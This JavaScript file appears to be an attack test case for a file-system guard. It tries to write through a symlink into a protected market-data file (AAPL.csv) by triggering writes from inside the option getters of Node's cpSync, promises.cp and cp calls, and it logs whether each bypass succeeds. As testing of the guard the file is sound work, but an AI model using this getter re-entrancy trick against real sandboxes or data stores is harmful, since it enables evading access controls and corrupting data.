/* @attack {"title": "write through runs/attacker/lake.csv (-> AAPL.csv) from inside cpSync's options getters, while the guard's wrappers stand down", "setup": ["abs-symlink-to-lakehouse"]} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
fs.writeFileSync(`${run}/a.csv`, 'a\n');
const poison = (label) => {
  try {
    fs.writeFileSync(`${run}/lake.csv`, `poisoned from ${label}\n`);
    console.log(`${label}: wrote`);
  } catch (error) {
    console.log(`${label}: ${error.code}`);
  }
};
for (const [name, copy] of [
  ['cpSync', () => fs.cpSync(`${run}/a.csv`, `${run}/b.csv`, { get force() { poison('cpSync force getter'); return true; } })],
  ['promises.cp', () => fs.promises.cp(`${run}/a.csv`, `${run}/c.csv`, { get mode() { poison('promises.cp mode getter'); return 0; } })],
  ['cp callback', () => new Promise((resolve, reject) => fs.cp(`${run}/a.csv`, `${run}/d.csv`, { get errorOnExist() { poison('cp errorOnExist getter'); return false; } }, (e) => (e ? reject(e) : resolve())))],
]) {
  try {
    await copy();
    console.log(`${name}: done`);
  } catch (error) {
    console.log(`${name}: ${error.code}`);
  }
}
